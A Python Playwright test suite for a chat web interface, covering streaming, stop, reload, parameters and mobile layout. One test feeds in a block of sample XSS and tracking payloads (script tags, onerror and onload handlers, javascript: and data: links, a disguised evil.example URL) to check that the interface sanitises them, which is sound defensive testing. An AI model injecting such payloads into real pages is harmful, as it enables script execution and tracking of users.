"""The web chat in a real Chromium against a real server; engines are real HTTP servers that answer as told."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import expect

from inference_gateway.models import Conversation, Turn
from tests.browser.chat.rig import TellingEngine, ask, composer, finished
from tests.inference_gateway.rig import EndlessEngine, Server, deploy
from tests.waiting import noticed_ms, wait_until

pytestmark = pytest.mark.browser

HOSTILE = """Look: ![a cat](https://tracker.example/cat.png?secret=1)

<img src="https://tracker.example/raw.png" onerror="window.ran = 1"><script>window.ran = 1</script>
<iframe src="https://tracker.example/frame"></iframe><video src="https://tracker.example/v.mp4"></video>

[good](https://good.example/page) [js](javascript:window.ran=1) [data](data:text/html,<script>window.ran=1</script>)
[disguised](https://bank.example@evil.example/) [other](https://evil.example/ "bank.example")

| a | b |
| - | - |
| <svg onload="window.ran=1"> | **bold** |

```python
print("<script>window.ran = 1</script>")
```

[ref]: https://tracker.example/ref "x"
![by reference][ref] <https://auto.example/x> <b onclick="window.ran=1">b</b>
"""


def test_an_answer_streams_in_and_its_numbers_stand_below(server: Server, visits: Any, endless: EndlessEngine) -> None:
    endless.ends_after = 120
    page = visits(deploy(server, endless.port)).open()
    ask(page, "Write some words.")
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word")
    finished(page)
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible()
    expect(page.locator("#chat-status")).to_have_text("Answer complete, 120 words")
    expect(page.locator(".answer-stats")).to_have_text(re.compile(r"First token \d+ ms · \d+\.\d tokens/s"))
    conversation = Conversation.objects.get()
    assert page.url.endswith(f"/chat/{conversation.pk}")
    page.reload()
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word")
    expect(page.get_by_role("heading", name="Write some words.")).to_be_visible()


def test_stop_idles_the_engine_within_a_second(server: Server, visits: Any, endless: EndlessEngine) -> None:
    page = visits(deploy(server, endless.port)).open()
    ask(page, "Never end.")
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word")
    assert endless.active == 1
    page.get_by_role("button", name="Stop", exact=True).click()
    wait_until(lambda: endless.active == 0, "the engine is idle", 1.0)
    expect(page.locator(".answer-notice")).to_contain_text("Stopped")
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word")


def test_escape_stops_too(server: Server, visits: Any, endless: EndlessEngine) -> None:
    page = visits(deploy(server, endless.port)).open()
    composer(page).fill("Never end.")
    composer(page).press("Enter")
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word")
    page.keyboard.press("Escape")
    expect(page.locator(".turn")).to_have_attribute("data-status", "stopped")


def test_a_reload_in_mid_answer_loses_neither_answer_nor_draft(
    server: Server, visits: Any, endless: EndlessEngine
) -> None:
    endless.ends_after = 200
    page = visits(deploy(server, endless.port)).open()
    ask(page, "Many words.")
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word word")
    composer(page).press_sequentially("half a tho")
    page.reload()
    expect(composer(page)).to_have_value("half a tho")
    expect(page.locator(".turn[data-status=generating]")).to_have_count(1)
    finished(page)
    assert page.locator(".answer-text").inner_text().split() == ["word"] * 200
    assert Turn.objects.get().answer == "word " * 200


def test_a_second_tab_mirrors_the_first(server: Server, visits: Any, endless: EndlessEngine) -> None:
    endless.ends_after = 80
    visit = visits(deploy(server, endless.port))
    page = visit.open()
    ask(page, "First.")
    finished(page)
    mirror = visit.open(page.url)
    ask(page, "Second.")
    expect(mirror.locator(".question-text").nth(1)).to_have_text("Second.")
    finished(mirror, 2)


def test_nothing_in_an_answer_is_fetched_or_run(server: Server, visits: Any, telling: TellingEngine) -> None:
    telling.answer = HOSTILE
    visit = visits(deploy(server, telling.port))
    page = visit.open()
    ask(page, "Attack me.")
    finished(page)
    expect(page.locator(".answer-code code .hljs-built_in, .answer-code code .hljs-string").first).to_be_visible()
    for _ in range(2):
        expect(page.locator(".answer-text .block a").first).to_be_visible()
        assert [url for url in visit.requests if not url.startswith(server.url)] == []
        assert page.evaluate("window.ran") is None
        answer = page.locator(".answer-text")
        assert answer.locator("img, script, iframe, video, svg, object, embed, [onclick], [onload]").count() == 0
        links = answer.locator("a").evaluate_all("all => all.map(a => [a.href, a.rel, a.target])")
        assert {link[0] for link in links} >= {
            "https://tracker.example/cat.png?secret=1",
            "https://good.example/page",
            "https://auto.example/x",
        }
        assert all(re.match(r"https?://[^@]*$", link[0]) for link in links)
        assert all("noopener noreferrer" in link[1] and link[2] == "_blank" for link in links)
        expect(answer).to_contain_text("good (good.example)")
        expect(answer).to_contain_text("<script>window.ran = 1</script>")
        page.reload()
        finished(page)


def test_enter_in_a_composition_does_not_send(server: Server, visits: Any, endless: EndlessEngine) -> None:
    page = visits(deploy(server, endless.port)).open()
    composer(page).fill("にほん")
    for event in ({"isComposing": True, "keyCode": 13}, {"isComposing": False, "keyCode": 229}):
        prevented = composer(page).evaluate(
            """(area, event) => !area.dispatchEvent(
                new KeyboardEvent("keydown", {key: "Enter", bubbles: true, cancelable: true, ...event}))""",
            event,
        )
        assert not prevented
    expect(page.locator(".turn")).to_have_count(0)
    composer(page).press("Shift+Enter")
    expect(composer(page)).to_have_value("にほん\n")
    composer(page).press("Enter")
    expect(page.locator(".turn")).to_have_count(1)


def test_the_view_stays_while_an_answer_grows(server: Server, visits: Any, telling: TellingEngine) -> None:
    telling.answer = "\n\n".join(f"Paragraph {number}." for number in range(200))
    page = visits(deploy(server, telling.port)).open()
    ask(page, "Long.")
    finished(page)
    transcript = page.locator("#transcript")
    question = page.locator(".question-text").bounding_box()
    box = transcript.bounding_box()
    assert question is not None
    assert box is not None
    assert box["y"] <= question["y"] < box["y"] + 100
    page.get_by_role("button", name="New text").click()
    expect(page.get_by_role("button", name="New text")).to_be_hidden()
    expect(page.locator(".answer-stats")).to_be_in_viewport()


def test_regenerating_shows_both_answers(server: Server, visits: Any, endless: EndlessEngine) -> None:
    endless.ends_after = 5
    page = visits(deploy(server, endless.port)).open()
    ask(page, "Twice.")
    finished(page)
    endless.ends_after = 9
    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator(".alternatives-place")).to_have_text("2/2")
    finished(page)
    page.get_by_role("link", name="Previous answer").click()
    expect(page.locator(".alternatives-place")).to_have_text("1/2")
    assert page.locator(".answer-text").inner_text().split() == ["word"] * 5


def test_parameters_are_sent_and_kept_with_the_conversation(
    server: Server, visits: Any, endless: EndlessEngine
) -> None:
    endless.ends_after = 2
    page = visits(deploy(server, endless.port)).open()
    page.get_by_role("button", name="Parameters").click()
    page.get_by_label("Temperature").fill("0.2")
    page.get_by_label("System prompt").fill("Be brief.")
    page.keyboard.press("Escape")
    ask(page, "How warm?")
    finished(page)
    assert endless.asked[0]["temperature"] == 0.2
    assert endless.asked[0]["messages"][0] == {"role": "system", "content": "Be brief."}
    page.reload()
    page.get_by_role("button", name="Parameters").click()
    expect(page.get_by_label("Temperature")).to_have_value("0.2")
    page.get_by_label("Temperature").fill("7")
    page.keyboard.press("Escape")
    ask(page, "Too warm?")
    expect(page.get_by_label("Temperature")).to_be_focused()
    assert len(endless.asked) == 1


def test_parameters_that_were_not_sent_yet_survive_a_reload(
    server: Server, visits: Any, endless: EndlessEngine
) -> None:
    endless.ends_after = 1
    page = visits(deploy(server, endless.port)).open()
    page.get_by_role("button", name="Parameters").click()
    page.get_by_label("Temperature").fill("0.3")
    page.get_by_label("System prompt").fill("Be brief.")
    page.reload()
    page.get_by_role("button", name="Parameters").click()
    expect(page.get_by_label("Temperature")).to_have_value("0.3")
    expect(page.get_by_label("System prompt")).to_have_value("Be brief.")
    page.keyboard.press("Escape")
    ask(page, "How warm?")
    finished(page)
    assert endless.asked[0]["temperature"] == 0.3
    page.get_by_role("link", name="New chat").click()
    page.get_by_role("button", name="Parameters").click()
    expect(page.get_by_label("Temperature")).to_have_value("")
    expect(page.get_by_label("System prompt")).to_have_value("")


def test_a_conversation_is_renamed_deleted_and_brought_back(
    server: Server, visits: Any, endless: EndlessEngine
) -> None:
    endless.ends_after = 1
    page = visits(deploy(server, endless.port)).open()
    ask(page, "My first title")
    row = page.locator(".conversation")
    row.hover()
    row.get_by_role("button", name="More").click()
    page.get_by_role("button", name="Rename").click()
    page.get_by_role("textbox", name="Title").fill("Another title")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Another title")).to_be_visible()
    wait_until(lambda: Conversation.objects.get().title == "Another title", "the title is saved")
    row.hover()
    row.get_by_role("button", name="More").click()
    page.get_by_role("button", name="Delete").click()
    wait_until(lambda: Conversation.objects.get().deleted_at is not None, "it is in the bin")
    page.get_by_role("button", name="Undo").click()
    expect(page.get_by_role("link", name="Another title")).to_be_visible()
    wait_until(lambda: Conversation.objects.get().deleted_at is None, "it is back")


def test_a_restart_of_the_server_is_said_and_survived(server: Server, visits: Any, endless: EndlessEngine) -> None:
    page = visits(deploy(server, endless.port)).open()
    ask(page, "Through a restart.")
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word word")
    server.kill()
    expect(page.locator("#live-indicator")).to_have_attribute("data-state", "paused", timeout=noticed_ms(6_000))
    composer(page).fill("typed meanwhile")
    server.start()
    expect(page.locator("#live-indicator")).to_have_attribute("data-state", "live", timeout=noticed_ms(10_000))
    expect(page.locator(".turn")).to_have_attribute("data-status", "interrupted", timeout=noticed_ms(10_000))
    expect(page.locator("article[data-role=assistant]")).to_contain_text("word word")
    expect(composer(page)).to_have_value("typed meanwhile")
    page.get_by_role("button", name="Send", exact=True).click()
    expect(page.locator(".turn")).to_have_count(2)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_shows_it_without_sideways_scrolling(
    server: Server, visits: Any, telling: TellingEngine, scheme: str
) -> None:
    telling.answer = f"{'long ' * 50}\n\n```python\n{'x = 1; ' * 60}\n```\n\n|{'wide column|' * 12}\n|{'-|' * 12}\n"
    service = deploy(server, telling.port)
    page = visits(
        service, viewport={"width": 375, "height": 700}, color_scheme=scheme, is_mobile=True, has_touch=True
    ).open()
    ask(page, "Narrow? " + "W" * 80)
    finished(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_role("dialog", name="Conversations")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Parameters").click()
    expect(page.get_by_role("dialog", name="Parameters")).to_be_visible()
